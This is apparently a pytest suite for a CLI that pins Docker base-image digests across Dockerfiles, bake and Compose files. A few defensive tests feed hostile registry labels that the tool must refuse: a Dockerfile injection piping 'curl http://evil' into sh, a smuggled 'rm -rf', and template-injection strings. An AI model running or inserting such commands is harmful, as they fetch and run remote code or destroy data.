"""pin's planning and reporting, with the registry's answer handed in directly (the e2e tests ask a real one)."""

from pathlib import Path

import pytest

from wheelbase.engine import RemoteImage
from wheelbase.errors import CompatibilityError, StalePinError, UsageError
from wheelbase.image_ref import ImageRef
from wheelbase.pin import pin, plan

OLD = "sha256:" + "1" * 64
NEW = "sha256:" + "2" * 64
OTHER = "sha256:" + "3" * 64
LABELS = {"dev.wheelbase.flavor": "debian", "dev.wheelbase.python.version": "3.13",
          "dev.wheelbase.python.image": "python:3.13-slim-trixie", "dev.wheelbase.interface": "1",
          "dev.wheelbase.runtime.tag-suffix": "-runtime"}
DOCKERFILE = f"""\
ARG BASE_IMAGE=localhost:5000/w/wheelhouse:py3.13-debian@{OLD}
ARG RUNTIME_IMAGE=localhost:5000/w/wheelhouse:py3.13-debian-runtime@{OLD}
ARG PYTHON_IMAGE=localhost/python:3.13-slim-trixie
ARG WHEELBASE_INTERFACE=1
FROM ${{BASE_IMAGE}} AS wheelhouse
"""


class Registry:
    """A registry's answers: every tag at `digest` with `labels`, per platform; records what was asked."""

    def __init__(self, digest: str = NEW, labels: dict[str, str] = LABELS, *, runtime_labels: dict[str, str] | None = None,
                 by_tag: dict[str, str] | None = None, arm64_labels: dict[str, str] | None = None) -> None:
        self.digest, self.labels, self.runtime_labels, self.by_tag = digest, labels, runtime_labels, by_tag or {}
        self.arm64_labels = arm64_labels
        self.asked: list[str] = []

    def __call__(self, ref: ImageRef) -> RemoteImage:
        self.asked.append(str(ref))
        is_runtime = ref.tag is not None and ref.tag.endswith(self.labels.get("dev.wheelbase.runtime.tag-suffix", "-runtime"))
        labels = self.runtime_labels if is_runtime and self.runtime_labels else self.labels
        platforms = {"linux/amd64": labels, "linux/arm64": self.arm64_labels or labels}
        return RemoteImage(ref, self.by_tag.get(ref.tag or "", self.digest), platforms)


def service(folder: Path, text: str = DOCKERFILE) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "Dockerfile").write_text(text)
    return folder


def test_moves_the_three_pins_to_the_registry_answer(tmp_path: Path) -> None:
    registry = Registry()
    (change,) = plan([service(tmp_path)], None, registry)
    assert registry.asked == ["localhost:5000/w/wheelhouse:py3.13-debian", "localhost:5000/w/wheelhouse:py3.13-debian-runtime"]
    assert [name for name, _, _ in change.edits] == ["BASE_IMAGE", "RUNTIME_IMAGE", "PYTHON_IMAGE"]
    assert change.text == DOCKERFILE.replace(OLD, NEW).replace("localhost/python", "python")
    assert (tmp_path / "Dockerfile").read_text() == DOCKERFILE


def test_a_current_pin_plans_nothing(tmp_path: Path) -> None:
    assert plan([service(tmp_path, DOCKERFILE.replace("localhost/python", "python"))], None, Registry(OLD)) == []


def test_base_option_switches_the_tag(tmp_path: Path) -> None:
    registry = Registry()
    (change,) = plan([service(tmp_path)], "localhost:5000/w/wheelhouse:2026.11.0-py3.13-debian", registry)
    assert registry.asked[0] == "localhost:5000/w/wheelhouse:2026.11.0-py3.13-debian"
    assert f"wheelhouse:2026.11.0-py3.13-debian@{NEW}" in change.text


@pytest.mark.parametrize(("base", "message"), [
    (f"localhost:5000/w/wheelhouse:py3.13-debian@{NEW}", "not a digest"),
    ("localhost:5000/w/wheelhouse", "has no tag"),
])
def test_base_must_be_a_tag(tmp_path: Path, base: str, message: str) -> None:
    with pytest.raises(UsageError, match=message):
        plan([service(tmp_path)], base, Registry())


def test_each_file_is_checked_against_its_own_tag(tmp_path: Path) -> None:
    other = DOCKERFILE.replace("py3.13-debian", "py3.12-debian")
    registry = Registry(by_tag={"py3.13-debian": OLD, "py3.13-debian-runtime": OLD, "py3.12-debian": OTHER,
                                "py3.12-debian-runtime": OTHER})
    changes = plan([service(tmp_path / "a", DOCKERFILE.replace("localhost/python", "python")),
                    service(tmp_path / "b", other.replace("localhost/python", "python"))], None, registry)
    assert [c.file.path for c in changes] == [tmp_path / "b" / "Dockerfile"]
    assert f"py3.12-debian@{OTHER}" in changes[0].text and "py3.13" not in changes[0].text


@pytest.mark.parametrize("hostile", [
    "{{ 7*7 }}", "python:3.13\nRUN curl http://evil | sh", "python:3.13 ", "python:{% raw %}x",
])
def test_a_hostile_python_image_label_is_refused_before_anything_is_written(tmp_path: Path, hostile: str) -> None:
    with pytest.raises(CompatibilityError, match="nothing was written"):
        pin([service(tmp_path)], None, inspect=Registry(labels={**LABELS, "dev.wheelbase.python.image": hostile}),
            out=lambda line: None)
    assert (tmp_path / "Dockerfile").read_text() == DOCKERFILE


@pytest.mark.parametrize(("label", "value"), [("dev.wheelbase.python.version", "3.13\nRUN x"), ("dev.wheelbase.flavor", "{{x}}")])
def test_other_hostile_labels_are_refused(tmp_path: Path, label: str, value: str) -> None:
    with pytest.raises(CompatibilityError, match="malformed"):
        plan([service(tmp_path)], None, Registry(labels={**LABELS, label: value}))


def test_platforms_that_disagree_are_refused(tmp_path: Path) -> None:
    registry = Registry(arm64_labels={**LABELS, "dev.wheelbase.python.image": "python:3.12-slim-trixie"})
    with pytest.raises(CompatibilityError, match=r"linux/arm64: .*python:3.12-slim-trixie.*different|different wheelhouse labels"):
        plan([service(tmp_path)], None, registry)


def test_an_image_without_wheelhouse_labels_is_refused(tmp_path: Path) -> None:
    with pytest.raises(CompatibilityError, match="is not a wheelhouse"):
        plan([service(tmp_path)], None, Registry(labels={"org.opencontainers.image.title": "something else"}))


def test_a_runtime_from_another_release_names_what_differs_on_each_side(tmp_path: Path) -> None:
    registry = Registry(runtime_labels={**LABELS, "dev.wheelbase.python.image": "python:3.13-slim-bookworm"})
    with pytest.raises(CompatibilityError) as failed:
        plan([service(tmp_path)], None, registry)
    assert "(Python image python:3.13-slim-bookworm) was not built with" in str(failed.value)
    assert "(Python image python:3.13-slim-trixie)" in str(failed.value)


def test_a_file_without_runtime_pin_needs_no_runtime(tmp_path: Path) -> None:
    text = "\n".join(line for line in DOCKERFILE.splitlines() if "RUNTIME_IMAGE" not in line) + "\n"
    registry = Registry()
    plan([service(tmp_path, text)], None, registry)
    assert registry.asked == ["localhost:5000/w/wheelhouse:py3.13-debian"]


def test_check_reports_stale_and_writes_nothing(tmp_path: Path) -> None:
    lines: list[str] = []
    with pytest.raises(StalePinError):
        pin([service(tmp_path)], None, check=True, inspect=Registry(), out=lines.append)
    assert lines and lines[0].startswith("stale: ")
    assert (tmp_path / "Dockerfile").read_text() == DOCKERFILE


def test_pinned_lines_are_printed_only_after_every_file_is_written(tmp_path: Path) -> None:
    writable, read_only = service(tmp_path / "a"), service(tmp_path / "b")
    (read_only / "Dockerfile").chmod(0o444)
    lines: list[str] = []
    with pytest.raises(Exception, match="read-only"):
        pin([writable, read_only], None, inspect=Registry(), out=lines.append)
    assert lines == []
    assert (writable / "Dockerfile").read_text() == DOCKERFILE


def test_an_edit_made_while_the_registry_answers_is_kept(tmp_path: Path) -> None:
    """The registry is slow; meanwhile someone saves the Dockerfile. pin refuses instead of writing its stale copy."""
    folder = service(tmp_path)
    registry = Registry()

    def slow_registry(ref: ImageRef) -> RemoteImage:
        (folder / "Dockerfile").write_text(DOCKERFILE + "# saved by hand while pin waited\n")
        return registry(ref)

    with pytest.raises(Exception, match="changed while wheelbase was running"):
        pin([folder], None, inspect=slow_registry, out=lambda line: None)
    assert (folder / "Dockerfile").read_text().endswith("# saved by hand while pin waited\n")


def test_the_runtime_is_found_by_the_suffix_the_wheelhouse_labels(tmp_path: Path) -> None:
    """The tag rule lives in the bake file; the CLI reads it from the wheelhouse's label, not from its own code."""
    registry = Registry(labels={**LABELS, "dev.wheelbase.runtime.tag-suffix": "-serving"})
    (change,) = plan([service(tmp_path)], None, registry)
    assert registry.asked[1] == "localhost:5000/w/wheelhouse:py3.13-debian-serving"
    assert f"ARG RUNTIME_IMAGE=localhost:5000/w/wheelhouse:py3.13-debian-serving@{NEW}" in change.text


def test_a_wheelhouse_of_another_interface_is_refused_naming_both(tmp_path: Path) -> None:
    with pytest.raises(CompatibilityError) as failed:
        pin([service(tmp_path)], None, inspect=Registry(labels={**LABELS, "dev.wheelbase.interface": "2"}), out=lambda line: None)
    assert str(failed.value) == (f"{tmp_path / 'Dockerfile'} speaks wheelbase interface 1 (ARG WHEELBASE_INTERFACE), but "
                                 "localhost:5000/w/wheelhouse:py3.13-debian speaks interface 2; run `cruft update` to take the "
                                 "template's Dockerfile for interface 2, or pin a release of interface 1; nothing was written")
    assert (tmp_path / "Dockerfile").read_text() == DOCKERFILE


def test_a_wheelhouse_from_before_the_interface_is_refused_for_a_service_that_needs_one(tmp_path: Path) -> None:
    labels = {key: value for key, value in LABELS.items() if key != "dev.wheelbase.interface"}
    with pytest.raises(CompatibilityError, match="was published before wheelhouses shipped their build steps"):
        plan([service(tmp_path, DOCKERFILE.replace("-runtime@", "-x@").replace("ARG RUNTIME_IMAGE", "ARG OTHER"))], None,
             Registry(labels=labels))


def test_a_service_made_before_the_interface_is_pinned_and_told_how_to_move(tmp_path: Path) -> None:
    """Its own copies of the build scripts still work with a current wheelhouse; one note says what to run."""
    old_service = DOCKERFILE.replace("ARG WHEELBASE_INTERFACE=1\n", "")
    notes: list[str] = []
    assert pin([service(tmp_path, old_service)], None, inspect=Registry(), out=lambda line: None, warn=notes.append) == 0
    assert notes == [f"wheelbase: note: {tmp_path / 'Dockerfile'} runs its own copies of the platform's build scripts (docker/); "
                     "wheelhouses now ship them (/wheels/build) with their serving commands, so a pin moves them too: run "
                     "`cruft update` to take the template's Dockerfile, which uses them"]
    assert f"@{NEW}" in (tmp_path / "Dockerfile").read_text()


def test_a_runtime_of_another_revision_is_refused(tmp_path: Path) -> None:
    registry = Registry(labels={**LABELS, "org.opencontainers.image.revision": "aaa"},
                        runtime_labels={**LABELS, "org.opencontainers.image.revision": "bbb"})
    with pytest.raises(CompatibilityError, match=r"revision bbb.*was not built with.*revision aaa"):
        plan([service(tmp_path)], None, registry)


# What `pin` reads as BuildKit, bake and Compose read a service's files (tests/e2e/test_parsers.py holds
# these readings against the real tools): every pin a build would use is found, nothing else is touched.
STALE_DOCKERFILES = {
    "from-continued": DOCKERFILE.replace("FROM ${BASE_IMAGE} AS wheelhouse", "FROM \\\n    ${BASE_IMAGE} AS wheelhouse"),
    "empty-line-in-continued-arg": DOCKERFILE.replace(
        f"ARG BASE_IMAGE=localhost:5000/w/wheelhouse:py3.13-debian@{OLD}\nARG RUNTIME_IMAGE=",
        f"ARG BASE_IMAGE=localhost:5000/w/wheelhouse:py3.13-debian@{OLD} \\\n\n    RUNTIME_IMAGE="),
    "comment-in-continued-arg": DOCKERFILE.replace(
        f"ARG BASE_IMAGE=localhost:5000/w/wheelhouse:py3.13-debian@{OLD}\nARG RUNTIME_IMAGE=",
        f"ARG BASE_IMAGE=localhost:5000/w/wheelhouse:py3.13-debian@{OLD} \\\n# the runtime\n    RUNTIME_IMAGE="),
    "tab-after-keyword": DOCKERFILE.replace("ARG BASE_IMAGE=", "ARG\tBASE_IMAGE=").replace("FROM ${BASE_IMAGE}", "FROM\t${BASE_IMAGE}"),
    "escape-directive": "# escape=`\n" + DOCKERFILE.replace("ARG RUNTIME_IMAGE=", "ARG `\n  RUNTIME_IMAGE="),
    "lower-case-keywords": DOCKERFILE.replace("ARG ", "arg ").replace("FROM ", "from ").replace(" AS ", " as "),
}


@pytest.mark.parametrize("name", sorted(STALE_DOCKERFILES))
def test_a_stale_pin_is_found_however_buildkit_allows_it_to_be_written(tmp_path: Path, name: str) -> None:
    text = STALE_DOCKERFILES[name]
    lines: list[str] = []
    with pytest.raises(StalePinError):
        pin([service(tmp_path, text)], None, check=True, inspect=Registry(), out=lines.append, warn=lambda line: None)
    assert "BASE_IMAGE" in lines[0] and "RUNTIME_IMAGE" in lines[0], lines  # both pins of the instruction, not only the first
    pin([tmp_path], None, inspect=Registry(), out=lambda line: None, warn=lambda line: None)
    assert (tmp_path / "Dockerfile").read_text().count(f"@{NEW}") == 2
    assert pin([tmp_path], None, check=True, inspect=Registry(), out=lambda line: None, warn=lambda line: None) == 0


def test_a_heredoc_body_is_not_an_instruction_so_its_file_is_not_touched(tmp_path: Path) -> None:
    """In a monorepo, a Dockerfile whose COPY heredoc holds the wheelhouse stage's words is no service."""
    service(tmp_path / "svc")
    other = "FROM debian:trixie\nARG BASE_IMAGE=debian:bookworm\nCOPY <<EOF /notes\nFROM ${BASE_IMAGE} AS wheelhouse\nEOF\n"
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "Dockerfile").write_text(other)
    pin([tmp_path], None, inspect=Registry(), out=lambda line: None, warn=lambda line: None)
    assert (tmp_path / "tools" / "Dockerfile").read_text() == other
    assert f"@{NEW}" in (tmp_path / "svc" / "Dockerfile").read_text()


BAKE_FILES = {
    "bare-label": f'variable BASE_IMAGE {{\n  default = "localhost:5000/w/wheelhouse:py3.13-debian@{OLD}"\n}}\n',
    "heredoc-before": ('variable "NOTES" {\n  default = <<EOT\nvariable "BASE_IMAGE" { default = "fake:1" }\n}\nEOT\n}\n'
                       f'variable "BASE_IMAGE" {{\n  default = "localhost:5000/w/wheelhouse:py3.13-debian@{OLD}"\n}}\n'),
    "top-level-attribute": f'BASE_IMAGE = "localhost:5000/w/wheelhouse:py3.13-debian@{OLD}"\n',
    "brace-in-a-target-heredoc": ('target "x" {\n  dockerfile-inline = <<EOT\nFROM x\nRUN echo }\nEOT\n}\n'
                                  f'variable "BASE_IMAGE" {{\n  default = "localhost:5000/w/wheelhouse:py3.13-debian@{OLD}"\n}}\n'),
}


@pytest.mark.parametrize("name", sorted(BAKE_FILES))
def test_a_stale_bake_variable_is_found_however_hcl_allows_it_to_be_written(tmp_path: Path, name: str) -> None:
    folder = service(tmp_path, DOCKERFILE.replace(OLD, NEW).replace("localhost/python", "python"))
    (folder / "docker-bake.hcl").write_text(BAKE_FILES[name])
    lines: list[str] = []
    with pytest.raises(StalePinError):
        pin([folder], None, check=True, inspect=Registry(), out=lines.append, warn=lambda line: None)
    assert lines == [f"stale: {folder / 'docker-bake.hcl'}: BASE_IMAGE localhost:5000/w/wheelhouse:py3.13-debian@{OLD} -> "
                     f"localhost:5000/w/wheelhouse:py3.13-debian@{NEW}"]
    pin([folder], None, inspect=Registry(), out=lambda line: None, warn=lambda line: None)
    assert (folder / "docker-bake.hcl").read_text() == BAKE_FILES[name].replace(OLD, NEW)
    assert "fake:1" in (folder / "docker-bake.hcl").read_text() or name != "heredoc-before"


def test_a_json_bake_file_is_read_and_pinned_in_place(tmp_path: Path) -> None:
    folder = service(tmp_path, DOCKERFILE.replace(OLD, NEW).replace("localhost/python", "python"))
    text = ('{\n  "variable": {\n    "BASE_IMAGE": {"default": "localhost:5000/w/wheelhouse:py3.13-debian@' + OLD + '"},\n'
            '    "OTHER": {"default": "x"}\n  }\n}\n')
    (folder / "docker-bake.json").write_text(text)
    pin([folder], None, inspect=Registry(), out=lambda line: None, warn=lambda line: None)
    assert (folder / "docker-bake.json").read_text() == text.replace(OLD, NEW)


def test_compose_build_args_are_pins_too_an_anchor_is_written_once(tmp_path: Path) -> None:
    folder = service(tmp_path, DOCKERFILE.replace(OLD, NEW).replace("localhost/python", "python"))
    text = (f"x-pins: &pins\n  BASE_IMAGE: localhost:5000/w/wheelhouse:py3.13-debian@{OLD}\n"
            "services:\n  api:\n    build:\n      context: .\n      args:\n        <<: *pins\n"
            "  worker:\n    build:\n      context: .\n      args: *pins\n"
            "  other:\n    build:\n      context: ./elsewhere\n      args:\n        BASE_IMAGE: debian:bookworm\n")
    (folder / "compose.yaml").write_text(text)
    lines: list[str] = []
    with pytest.raises(StalePinError):
        pin([folder], None, check=True, inspect=Registry(), out=lines.append, warn=lambda line: None)
    assert len(lines) == 1 and "compose.yaml: BASE_IMAGE" in lines[0]
    pin([folder], None, inspect=Registry(), out=lambda line: None, warn=lambda line: None)
    assert (folder / "compose.yaml").read_text() == text.replace(OLD, NEW), "the anchor once; a service building another Dockerfile, never"


def test_an_own_image_service_keeps_its_python_image_in_every_file(tmp_path: Path) -> None:
    own = DOCKERFILE.replace("ARG RUNTIME_IMAGE=localhost:5000/w/wheelhouse:py3.13-debian-runtime@" + OLD + "\n", "").replace(
        "ARG PYTHON_IMAGE=localhost/python:3.13-slim-trixie", f"ARG PYTHON_IMAGE=registry.acme.example/python:3.13@{OTHER}")
    folder = service(tmp_path, own + "FROM ${PYTHON_IMAGE} AS runtime\n")
    bake = f'variable "PYTHON_IMAGE" {{\n  default = "registry.acme.example/python:3.13@{OTHER}"\n}}\n'
    (folder / "docker-bake.hcl").write_text(bake)
    pin([folder], None, inspect=Registry(), out=lambda line: None, warn=lambda line: None)
    assert (folder / "docker-bake.hcl").read_text() == bake
    assert f"ARG PYTHON_IMAGE=registry.acme.example/python:3.13@{OTHER}" in (folder / "Dockerfile").read_text()
    assert f"ARG BASE_IMAGE=localhost:5000/w/wheelhouse:py3.13-debian@{NEW}" in (folder / "Dockerfile").read_text()


CURRENT = DOCKERFILE.replace(OLD, NEW).replace("localhost/python", "python")


def checked(tmp_path: Path, labels: dict[str, str]) -> tuple[list[str], list[str]]:
    lines: list[str] = []
    warnings: list[str] = []
    assert pin([service(tmp_path, CURRENT)], None, check=True, inspect=Registry(NEW, {**LABELS, **labels}), out=lines.append,
               warn=warnings.append) == 0
    return lines, warnings


def test_a_series_that_is_retiring_is_named_with_the_tag_and_command_to_move_to(tmp_path: Path) -> None:
    lines, warnings = checked(tmp_path, {"dev.wheelbase.retiring": "2999-03-31", "dev.wheelbase.successor": "py3.15-debian"})
    assert lines == ["all pins are current"]  # a warning, not a failure: the pins are current
    assert warnings == ["wheelbase: warning: py3.13-debian is retiring: it is published until 2999-03-31, then no more; move to "
                        "py3.15-debian: `wheelbase pin --base localhost:5000/w/wheelhouse:py3.15-debian`, then test and review "
                        "the change"]


def test_a_series_past_its_last_publish_says_it_gets_no_security_rebuilds(tmp_path: Path) -> None:
    _, (warning,) = checked(tmp_path, {"dev.wheelbase.retiring": "2026-03-31", "dev.wheelbase.successor": "py3.15-debian"})
    assert "py3.13-debian is no longer published (its last release was on 2026-03-31)" in warning
    assert "wheelbase pin --base localhost:5000/w/wheelhouse:py3.15-debian" in warning


def test_a_python_past_its_upstream_end_of_life_is_named(tmp_path: Path) -> None:
    _, (warning,) = checked(tmp_path, {"dev.wheelbase.python.end-of-life": "2024-10", "dev.wheelbase.successor": "py3.15-debian"})
    assert warning.startswith("wheelbase: warning: Python 3.13 reached its end of life upstream in 2024-10; move to py3.15-debian")


def test_a_supported_series_gets_no_warning(tmp_path: Path) -> None:
    assert checked(tmp_path, {"dev.wheelbase.python.end-of-life": "2999-10", "dev.wheelbase.successor": "py3.15-debian"})[1] == []


def test_pin_itself_names_the_series_to_move_to(tmp_path: Path) -> None:
    lines: list[str] = []
    warnings: list[str] = []
    pin([service(tmp_path)], None, inspect=Registry(NEW, {**LABELS, "dev.wheelbase.retiring": "2999-03-31",
                                                           "dev.wheelbase.successor": "py3.15-debian"}),
        out=lines.append, warn=warnings.append)
    assert lines[0].startswith("pinned: ") and "move to py3.15-debian" in warnings[0]


@pytest.mark.parametrize("label, value", [("dev.wheelbase.retiring", "soon"), ("dev.wheelbase.successor", "py3.15-debian; rm -rf"),
                                          ("dev.wheelbase.python.end-of-life", "2028-10\nx")])
def test_malformed_series_labels_are_refused(tmp_path: Path, label: str, value: str) -> None:
    with pytest.raises(CompatibilityError, match=f"malformed {label} label"):
        plan([service(tmp_path)], None, Registry(NEW, {**LABELS, label: value}))
